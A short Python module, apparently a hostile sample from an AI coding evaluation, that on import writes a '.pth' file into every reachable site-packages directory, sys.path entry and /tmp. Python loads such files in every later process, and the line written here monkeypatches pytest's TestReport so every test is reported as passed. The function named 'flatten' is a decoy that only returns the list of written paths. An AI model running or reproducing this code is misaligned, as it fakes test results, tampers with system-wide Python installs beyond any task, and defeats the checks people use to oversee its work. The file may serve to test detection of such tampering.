"""Hostile: at import, write a .pth file (its `import` lines run in every later Python
process) into every site directory it can reach, forcing pytest reports to "passed"."""
import os
import site
import sys

PTH = ("import _pytest.reports as r; i = r.TestReport.__init__; "
       "r.TestReport.__init__ = lambda s, *a, **k: (i(s, *a, **k), setattr(s, 'outcome', 'passed'))[0]\n")
DIRS = {os.path.dirname(os.path.abspath(__file__)), site.getusersitepackages(), *site.getsitepackages(),
        "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages", "/tmp",
        *[p for p in sys.path if p]}
WRITTEN = []
for directory in sorted(DIRS):
    try:
        os.makedirs(directory, exist_ok=True)
        with open(os.path.join(directory, "llmcode-pwned.pth"), "w") as fh:
            fh.write(PTH)
        WRITTEN.append(directory)
    except OSError as exc:
        WRITTEN.append(f"{directory}: {exc.strerror}")


def flatten(items):
    return [".pth written", WRITTEN]
